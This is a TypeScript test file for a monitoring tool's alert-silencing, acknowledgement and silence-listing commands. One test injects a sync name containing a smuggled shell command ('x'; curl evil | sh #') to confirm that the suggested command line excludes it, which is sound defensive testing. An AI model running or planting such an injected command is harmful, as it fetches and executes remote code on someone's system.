import { check } from '../../lambda/commands/check.ts';
import {
  acknowledge,
  endSilence,
  listSilences,
  type SilencePorts,
  type SilenceRequest,
  silence,
} from '../../lambda/commands/silences.ts';
import { renderPlainText } from '../../lambda/core/render/plain-text.ts';
import { INITIAL_STATE } from '../../lambda/core/state.ts';
import { InMemoryStore } from '../../lambda/state/in-memory-store.ts';
import { aSilence } from '../core/a-silence.ts';
import { aFailingRecord, aRecord, HOUR, MINUTE, START, settings, World } from './a-world.ts';

/** A world with the healthy `orders` and the failing `invoices` and `fees`, each checked once. */
async function aWatch() {
  const world = new World();
  const failing = ['invoices', 'fees'].map((id) => aFailingRecord(START, { id, name: id }));
  world.shown = [aRecord(START, { id: 'orders', name: 'orders' }), ...failing];
  const state = new InMemoryStore();
  let calls = 0;
  const random = () => (calls++ * 0.1) % 1;
  const ports: SilencePorts = { ...world.ports, state, silences: state, random };
  /** A check; returns what it posted, as text. */
  const run = async (): Promise<string> => {
    const { origin, ...rest } = settings();
    const outcome = await check(ports, {
      ...rest,
      origin: { ...origin, commandPrefix: 'npm run invoke -- test' },
    });
    const digests = outcome.kind === 'checked' ? outcome.digests : [];
    return digests.map((digest) => renderPlainText(digest)).join('\n');
  };
  return { world, state, ports, run };
}

const asked = (what: SilenceRequest['what'], overrides: Partial<SilenceRequest> = {}): SilenceRequest => ({
  what,
  ends: { afterSeconds: 2 * 3600 },
  reason: 'migration',
  author: 'ada',
  ...overrides,
});

describe('a silence by a matcher', () => {
  it('is answered with what it matches now', async () => {
    const { ports, run } = await aWatch();
    await run();
    const result = await silence(ports, settings(), asked({ match: { name: ['*es', 'orders'] } }));
    expect(result).toEqual({
      kind: 'silenced',
      at: new Date(START).toISOString(),
      silence: {
        id: expect.stringMatching(/^[a-z2-9]{4}$/),
        kind: 'matcher',
        selects: 'name *es or orders',
        status: 'active',
        from: new Date(START).toISOString(),
        until: new Date(START + 2 * HOUR).toISOString(),
        reason: 'migration',
        author: 'ada',
        syncs: 3,
        alerts: 2,
        names: ['invoices', 'fees'],
      },
    });
  });

  it('is answered with zeros when it matches nothing', async () => {
    const { ports, run } = await aWatch();
    await run();
    const result = await silence(ports, settings(), asked({ match: { name: ['nothing'] } }));
    expect(result).toMatchObject({ silence: { syncs: 0, alerts: 0, names: [] } });
  });

  it('of the pattern * alone is added, and says that it matches everything', async () => {
    const { ports, run } = await aWatch();
    await run();
    const result = await silence(ports, settings(), asked({ match: { name: ['*'] } }));
    expect(result).toMatchObject({ silence: { syncs: 3, alerts: 2 } });
  });

  it('is added also while the syncs cannot be listed', async () => {
    const { world, ports } = await aWatch();
    world.shown = { kind: 'failed', request: 'GET', received: '503' };
    const result = await silence(ports, settings(), asked({ match: { name: ['orders'] } }));
    expect(result).toMatchObject({ kind: 'silenced', silence: { syncs: null } });
  });

  it.each<[string, Partial<SilenceRequest>, RegExp]>([
    ['without a reason', { reason: ' ' }, /needs a reason/],
    ['that has ended', { ends: { at: START } }, /would have ended already/],
    [
      'that ends before it begins',
      { startsAt: START + 2 * HOUR, ends: { at: START + HOUR } },
      /would end before it begins/,
    ],
    [
      'that ends at the moment at which it begins',
      { startsAt: START + HOUR, ends: { at: START + HOUR } },
      /would end before it begins/,
    ],
    ['that begins and ended yesterday', { startsAt: START - 24 * HOUR }, /would have ended already/],
    ['of 90 days and a second', { ends: { afterSeconds: 90 * 86_400 + 1 } }, /within 90 days: exclude/],
    ['of 10 years', { ends: { afterSeconds: 3650 * 86_400 } }, /within 90 days: exclude/],
    ['of more time than dates have', { ends: { afterSeconds: 1e300 } }, /within 90 days: exclude/],
    ['of an hour in 10 years', { startsAt: START + 87_600 * HOUR }, /within 90 days: exclude/],
  ])('%s is refused', async (_, overrides, error) => {
    const { ports } = await aWatch();
    const result = await silence(ports, settings(), asked({ match: { name: ['orders'] } }, overrides));
    expect(result).toEqual({ kind: 'usage_error', error: expect.stringMatching(error) });
    expect((await ports.state.load()).silences).toBeUndefined();
  });

  it('of 90 days is the longest', async () => {
    const { ports } = await aWatch();
    const ends = { afterSeconds: 90 * 86_400 };
    const result = await silence(ports, settings(), asked({ match: { name: ['orders'] } }, { ends }));
    expect(result.kind).toBe('silenced');
  });

  it('is refused above a thousand, of which those that have ended do not count', async () => {
    const { state, ports } = await aWatch();
    const endsAt = START + HOUR;
    for (let index = 0; index < 999; index += 1)
      await state.addSilence(aSilence({ id: ['a'] }, { id: `s${index}`, endsAt }));
    await state.addSilence(aSilence({ id: ['a'] }, { id: 'over', endsAt: START }));
    const request = asked({ match: { name: ['orders'] } });
    expect((await silence(ports, settings(), request)).kind).toBe('silenced');
    expect(await silence(ports, settings(), request)).toEqual({
      kind: 'usage_error',
      error: 'there are 1000 silences: end some first',
    });
  });

  it('gets another id when somebody took the first at the same moment', async () => {
    const { ports } = await aWatch();
    const sameRandom = { ...ports, random: () => 0.5 };
    const request = asked({ match: { name: ['orders'] } });
    const both = await Promise.all([1, 2].map(() => silence(sameRandom, settings(), request)));
    const ids = both.map((result) => (result.kind === 'silenced' ? result.silence.id : result.kind));
    expect(new Set(ids).size).toBe(2);
  });
});

describe('the command at the end of a digest', () => {
  const tokenIn = (text: string) => /silence ([a-z2-9]{4}) --for 8h/.exec(text)?.[1] ?? 'none';

  it('silences what is open in it, and nothing else', async () => {
    const { world, ports, run } = await aWatch();
    const token = tokenIn(await run());
    const result = await silence(ports, settings(), asked({ token }, { reason: '' }));
    expect(result).toMatchObject({
      silence: { kind: 'alerts', selects: '2 alerts of a digest', syncs: null, alerts: 2 },
    });
    world.now += 5 * MINUTE;
    world.shown = ['orders', 'invoices', 'fees'].map((id) => aFailingRecord(world.now, { id, name: id }));
    const next = await run();
    expect(next).toContain('orders');
    expect(next).not.toContain('invoices is');
  });

  it('holds nothing from outside, whatever the names are', async () => {
    const { world, run } = await aWatch();
    world.shown = [aFailingRecord(START, { id: "x'; curl evil", name: "x'; curl evil | sh #" })];
    const line = (await run()).split('\n').find((one) => one.includes('To silence'));
    expect(line).toMatch(/To silence this for 8 h: npm run invoke -- test silence [a-z2-9]{4} --for 8h$/);
  });

  it('is not there when all is well again', async () => {
    const { world, run } = await aWatch();
    await run();
    world.now += 15 * MINUTE;
    world.shown = ['orders', 'invoices', 'fees'].map((id) => aRecord(world.now, { id, name: id }));
    const text = await run();
    expect(text).toContain('2 recovered');
    expect(text).not.toContain('To silence');
  });

  it('is refused when its token is not known', async () => {
    const { ports, run } = await aWatch();
    await run();
    expect(await silence(ports, settings(), asked({ token: 'zzzz' }))).toEqual({
      kind: 'usage_error',
      error:
        'no digest has this token: its alerts are over, later digests had them, or it is of another environment; silence by a matcher instead',
    });
  });
});

describe('an acknowledgement', () => {
  it.each(['invoices', 'listing-like'])('needs an open alert: %s', async (id) => {
    const { ports } = await aWatch();
    expect(await acknowledge(ports, { id })).toEqual({
      kind: 'usage_error',
      error: expect.stringContaining('no open alert has this id'),
    });
  });

  it('of an alert that has ended is refused', async () => {
    const { world, ports, run } = await aWatch();
    await run();
    world.now += 15 * MINUTE;
    world.shown = ['orders', 'invoices', 'fees'].map((id) => aRecord(world.now, { id, name: id }));
    await run();
    expect(await acknowledge(ports, { id: 'invoices' })).toEqual({
      kind: 'usage_error',
      error: 'no open alert has this id: give the id or the name of a sync, or the token of a digest',
    });
  });

  it('is of an alert by the id of its sync, for 30 days at most', async () => {
    const { ports, run } = await aWatch();
    await run();
    expect(await acknowledge(ports, { id: 'invoices', author: 'ben' })).toMatchObject({
      silence: {
        kind: 'acknowledgement',
        selects: '1 alert, until it ends',
        until: new Date(START + 30 * 24 * HOUR).toISOString(),
        author: 'ben',
        alerts: 1,
        names: ['invoices'],
      },
    });
  });

  it('is of the failing listing by its fingerprint', async () => {
    const { world, ports, run } = await aWatch();
    await run();
    world.now += 5 * MINUTE;
    world.shown = { kind: 'refused', request: 'GET', received: '401 Unauthorized' };
    await run().catch(() => undefined);
    expect(await acknowledge(ports, { id: 'listing' })).toMatchObject({ silence: { names: ['listing'] } });
  });
});

describe('the list of silences', () => {
  it('has the first to end first, and what each matches now', async () => {
    const { ports, run } = await aWatch();
    await run();
    const request = (hours: number, name: string) =>
      asked({ match: { name: [name] } }, { ends: { afterSeconds: hours * 3600 } });
    await silence(ports, settings(), request(3, 'fees'));
    await silence(ports, settings(), { ...request(1, 'orders'), startsAt: START + HOUR });
    await silence(ports, settings(), request(1, 'invoices'));
    expect(await listSilences(ports, settings())).toMatchObject({
      silences: [
        { selects: 'name invoices', status: 'active', alerts: 1 },
        { selects: 'name orders', status: 'later', alerts: 0 },
        { selects: 'name fees', status: 'active', alerts: 1 },
      ],
      unknown: [],
    });
  });

  it('shows one that has ended as such', async () => {
    const { state, ports } = await aWatch();
    await state.addSilence(aSilence({ id: ['a'] }, { endsAt: START }));
    expect(await listSilences(ports, settings())).toMatchObject({ silences: [{ status: 'ended' }] });
  });

  it('lacks one that was ended, which is ended once', async () => {
    const { state, ports } = await aWatch();
    await state.addSilence(aSilence());
    expect(await endSilence(ports, 'k3f9')).toMatchObject({ kind: 'ended', id: 'k3f9' });
    expect(await endSilence(ports, 'k3f9')).toMatchObject({ kind: 'usage_error' });
    expect(await listSilences(ports, settings())).toMatchObject({ silences: [] });
  });
});

it('a check that is silenced writes once, and is quiet from then on', async () => {
  const { world, state, ports, run } = await aWatch();
  await state.addSilence(aSilence({ name: ['*'] }, { startsAt: START, endsAt: START + HOUR }));
  expect(await run()).toBe('');
  const { version, state: saved } = await state.load();
  expect(saved).not.toEqual(INITIAL_STATE);
  world.now += 5 * MINUTE;
  const outcome = await check(ports, settings());
  expect(outcome).toMatchObject({ saved: false, undelivered: { count: 0 } });
  expect(outcome.kind === 'checked' && outcome.decisions.map(({ text }) => text)).toEqual([
    'a silence holds it back (k3f9), until 2026-11-24 10:00 UTC',
    'a silence holds it back (k3f9), until 2026-11-24 10:00 UTC',
  ]);
  expect((await state.load()).version).toBe(version);
});
